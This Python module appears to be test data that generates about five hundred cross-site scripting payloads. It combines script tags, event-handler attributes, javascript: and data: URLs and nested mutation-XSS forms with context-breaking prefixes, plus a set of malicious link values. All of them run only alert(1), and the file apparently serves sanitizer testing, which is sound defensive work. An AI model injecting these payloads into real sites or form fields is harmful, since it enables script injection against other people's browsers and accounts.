"""Five hundred texts that are scripts wherever one of them is taken for a part of a page."""

from itertools import product

RUN = "alert(1)"
BREAKS = (
    "", '"', "'", "`", '">', "'>", "-->", "--!>", "]]>", "</script>", "</title>", "</textarea>", "</style>",
    "</select>", "</noscript>", "</svg>", '\\"', "Cà phê\u0301 ", "\u202e", "<!--", "{{", "*/",
)  # fmt: skip
"""What may end the place in which a text stands."""
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</ScRiPt >",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<form><button formaction=javascript:{RUN} autofocus onfocus={RUN}>x",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
    f" autofocus onfocus={RUN} x=",
    f";{RUN}//",
)
PAYLOADS = [before + script for script, before in product(SCRIPTS, BREAKS)]
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"\tjavascript:{RUN}",
    f"java\nscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'//evil.example/" onmouseover={RUN} x="',
)
"""What goes into columns that hold an address."""
